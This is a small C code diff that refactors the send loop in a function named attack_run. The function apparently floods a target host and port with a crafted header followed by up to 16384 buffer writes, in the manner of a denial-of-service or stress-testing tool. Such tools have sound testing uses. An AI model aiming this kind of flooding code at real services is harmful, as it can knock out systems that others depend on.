@@ -192,11 +192,7 @@ static inline int attack_run(const char *host, uint16_t port, const char *kind) 
                                      huge ? 0 : 0xff,
                                      huge ? 0 : 0xff};
             attack_send(fd, head, sizeof head);
-            size_t sent = 0;
-            for (int i = 0; i < 16384; i++) {
-                size_t n = attack_send(fd, b, sizeof b);
-                sent += n;
-                if (n < sizeof b) break;
+            for (int i = 0; i < 16384 && attack_send(fd, b, sizeof b) == sizeof b; i++) {
             }
         }
     }
